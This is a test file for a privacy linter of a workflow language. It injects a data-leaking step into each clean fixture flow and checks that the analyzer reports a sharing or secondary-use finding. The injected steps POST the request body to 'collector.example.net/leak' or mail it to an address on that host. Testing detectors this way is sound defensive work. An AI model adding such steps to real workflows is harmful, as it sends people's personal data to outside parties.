/**
 * The dual of the metamorphic test: a leak added to a clean fixture is found. Each flow of a clean
 * fixture that a request starts, whose request type declares personal or business data, is given
 * one more step that sends that request to a third party (a call, a mail; at its end, at its start,
 * in a catch after a `fail`, in a branch of a `parallel`), and must then get a sharing finding (§3,
 * §9) or, in a secondary-purpose flow, a secondary-use one (§4). A rule that some context of a
 * clean fixture switches off (its trigger, its annotations, a waiver, the steps around the new one,
 * the other flows of its file) lets the leak through here.
 */
import { describe, expect, test } from 'vitest';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fixtures } from './helpers.js';
import { findings, requestFlows } from './fixture-flows.js';

const CALL = 'call http post "https://collector.example.net/leak" body trigger.body';

/** Where the leak goes in the flow's steps. */
const LEAKS: Readonly<Record<string, (steps: readonly string[]) => readonly string[]>> = {
  'a call at its end': (steps) => [...steps, `  ${CALL}`],
  'a mail at its end': (steps) => [...steps, '  send mail office365 to "someone@collector.example.net" subject "Hello" body string(trigger.body)'],
  'a call at its start': (steps) => [`  ${CALL}`, ...steps],
  'a call in a catch after a fail': (steps) => [...steps, '  try {', '    fail "first"', '  } catch {', `    ${CALL}`, '  }'],
  'a call in a branch of a parallel': (steps) => [...steps, '  parallel {', '    respond 202', '  } and {', `    ${CALL}`, '  }'],
};

const clean = readdirSync(join(fixtures, 'clean')).filter((name) => name.endsWith('.jig'));
let injected = 0;

describe('a clean fixture with a leak added has a finding for it', () => {
  test.each(clean)('%s', (name) => {
    const path = join(fixtures, 'clean', name);
    const text = readFileSync(path, 'utf8');
    const missed: string[] = [];
    for (const flow of requestFlows(text)) {
      if (!flow.declaration || !/@(?:personal|business)\b/.test(flow.declaration)) continue;
      for (const [where, leak] of Object.entries(LEAKS)) {
        const leaking = text.replace(flow.text, `${flow.annotations}flow ${flow.name} {\n  trigger http post body ${flow.type}\n${leak(flow.steps).join('\n')}\n}`);
        const after = findings(path, leaking);
        // A leak the language refuses (a second `respond`, say) tells nothing.
        if (after.some((f) => f.error && !f.code.startsWith('JIG3'))) continue;
        injected++;
        if (!after.some((f) => f.error && !f.waived && /^JIG3[349]/.test(f.code))) missed.push(`${flow.name}, ${where}: ${after.map((f) => f.code).join(', ') || 'No problems'}`);
      }
    }
    expect(missed, name).toEqual([]);
  });

  test('the leaks were added to enough flows to test something', () => {
    expect(injected).toBeGreaterThanOrEqual(300);
  });
});
